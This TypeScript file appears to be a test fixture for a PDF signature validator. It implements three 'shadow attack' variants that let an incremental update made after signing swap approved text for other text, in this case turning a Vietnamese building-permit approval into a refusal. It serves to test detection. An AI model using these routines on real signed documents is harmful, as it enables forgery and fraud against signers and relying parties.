/**
 * Shadow attacks on PDF signatures (Mainka, Mladenov, Rohlmann: "Shadow Attacks: Hiding and
 * Replacing Content in Signed PDFs", NDSS 2021), rebuilt by this project for its tests. The
 * attacker prepares a document that carries dormant content, a victim signs it, and one
 * incremental update (ISO 32000-1 §7.5.6) after the signature wakes the dormant content up. The
 * update only uses operations a PDF writer performs every day, which is why a validator has to
 * judge every object the update touches (ETSI EN 319 142-1 and ISO 32000-1 §12.8.2 say which
 * changes a signature permits; none of these is one of them).
 *
 * Three classes:
 * - hide: the shadow object sits inside the signed bytes but no cross-reference entry names it;
 *   the update is an xref section alone that points an existing object number at it.
 * - replace: a form field lies over the signed text with an empty appearance; the update "fills"
 *   it with an opaque appearance showing other text.
 * - hide-and-replace: a complete second page tree travels unreferenced in the signed revision;
 *   the update rewrites the catalog so /Pages names it.
 */
import { appendRevision, lastStartxref, stream, writePdf } from './raw-pdf.js';

export type ShadowVariant = 'hide' | 'replace' | 'hide-and-replace';
export const SHADOW_VARIANTS: readonly ShadowVariant[] = ['hide', 'replace', 'hide-and-replace'];

/** What the signer reads and approves. */
export const SIGNED_TEXT = 'Dieu 1. Chap thuan cap giay phep xay dung so 125/GPXD.';
/** What the attacker makes the signed file show afterwards. */
export const SHADOW_TEXT = 'Dieu 1. Tu choi cap giay phep xay dung so 125/GPXD.';
const HEADING = 'UY BAN NHAN DAN TINH QUANG NINH - QUYET DINH SO 12/QD-UBND';

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const FORM = '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>';
const heading = `BT /F1 16 Tf 50 780 Td (${HEADING}) Tj ET`;
const line = (text: string) => `BT /F1 13 Tf 50 700 Td (${text}) Tj ET`;
const page = (parent: number, contents: number, extra = '') =>
  `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Body 5 0 R >> >> /Contents ${contents} 0 R ${extra}>>`;

/** Rect of the replace variant's text field: over SIGNED_TEXT's line. */
const FIELD_RECT = [45, 690, 560, 720] as const;
const fieldWidget = (appearance: number, value: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ghi_chu) /V (${value}) /Rect [${FIELD_RECT.join(' ')}] /F 4 /P 3 0 R /DA (/F1 13 Tf 0 g) /AP << /N ${appearance} 0 R >> >>`;
const fieldAppearance = (data: string) =>
  stream(
    `/Type /XObject /Subtype /Form /BBox [0 0 ${FIELD_RECT[2] - FIELD_RECT[0]} ${FIELD_RECT[3] - FIELD_RECT[1]}] /Resources << /Font << /F1 4 0 R >> >>`,
    data,
  );

/** The document the attacker hands over for signing (stage 2 of the attack). */
export function shadowDocument(variant: ShadowVariant): Buffer {
  const catalog = (acroForm = '') => `<< /Type /Catalog /Pages 2 0 R ${acroForm}>>`;
  const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
  switch (variant) {
    case 'hide': {
      // Object 7 is an ordinary, unreferenced stream whose data happens to be the text of
      // another "5 0 obj": the xref of the signed revision points object 5 at the honest body.
      const hidden = `5 0 obj\n${stream(FORM, line(SHADOW_TEXT))}\nendobj`;
      return writePdf({
        1: catalog(),
        2: pages,
        3: page(2, 6),
        4: FONT,
        5: stream(FORM, line(SIGNED_TEXT)),
        6: stream('', `${heading}\nq /Body Do Q`),
        7: stream('', `\n${hidden}\n`),
      });
    }
    case 'replace':
      return writePdf({
        1: catalog('/AcroForm 8 0 R '),
        2: pages,
        3: page(2, 6, '/Annots [7 0 R] '),
        4: FONT,
        5: stream(FORM, line(SIGNED_TEXT)),
        6: stream('', `${heading}\nq /Body Do Q`),
        7: fieldWidget(9, ''),
        8: '<< /Fields [7 0 R] /DA (/F1 13 Tf 0 g) /DR << /Font << /F1 4 0 R >> >> >>',
        9: fieldAppearance(''),
      });
    case 'hide-and-replace':
      return writePdf({
        1: catalog(),
        2: pages,
        3: page(2, 6),
        4: FONT,
        5: stream(FORM, line(SIGNED_TEXT)),
        6: stream('', `${heading}\nq /Body Do Q`),
        // the shadow document: its own page tree, page, body and contents, referenced by nothing
        10: '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
        11: `<< /Type /Page /Parent 10 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Body 12 0 R >> >> /Contents 13 0 R >>`,
        12: stream(FORM, line(SHADOW_TEXT)),
        13: stream('', `${heading}\nq /Body Do Q`),
      });
  }
}

/** The attacker's update after the signature (stage 4): `signed` is the file the victim signed. */
export function manipulate(variant: ShadowVariant, signed: Buffer): Buffer {
  const root = 1;
  const size = trailerSize(signed);
  switch (variant) {
    case 'hide': {
      const at = signed.lastIndexOf('\n5 0 obj\n', lastStartxref(signed), 'latin1') + 1;
      if (at <= 0 || at === signed.indexOf('\n5 0 obj\n', 0, 'latin1') + 1) throw new TypeError('hidden object not found');
      return appendRevision(signed, { pointers: { 5: at }, root, size });
    }
    case 'replace': {
      const cover = `1 g 0 0 ${FIELD_RECT[2] - FIELD_RECT[0]} ${FIELD_RECT[3] - FIELD_RECT[1]} re f\nBT 0 g /F1 13 Tf 5 10 Td (${SHADOW_TEXT}) Tj ET`;
      return appendRevision(signed, {
        objects: { 7: fieldWidget(size, SHADOW_TEXT), [size]: fieldAppearance(cover) },
        root,
        size: size + 1,
      });
    }
    case 'hide-and-replace': {
      const catalog = latestObjectText(signed, 1).replace(/\/Pages\s+2\s+0\s+R/, '/Pages 10 0 R');
      if (!catalog.includes('/Pages 10 0 R')) throw new TypeError('catalog without /Pages 2 0 R');
      return appendRevision(signed, { objects: { 1: catalog }, root, size });
    }
  }
}

/** /Size of the last trailer (classic xref, as both kyso's signer and writePdf produce here). */
function trailerSize(pdf: Buffer): number {
  const text = pdf.toString('latin1');
  const all = [...text.matchAll(/\/Size\s+(\d+)/g)];
  if (all.length === 0) throw new TypeError('no /Size');
  return Number(all[all.length - 1]![1]);
}

/** The body of the newest "num 0 obj" in the file (the signer rewrote the catalog). */
function latestObjectText(pdf: Buffer, num: number): string {
  const text = pdf.toString('latin1');
  const start = text.lastIndexOf(`\n${num} 0 obj`);
  const end = text.indexOf('endobj', start);
  if (start < 0 || end < 0) throw new TypeError(`object ${num} not found`);
  return text.slice(start + `\n${num} 0 obj`.length, end).trim();
}
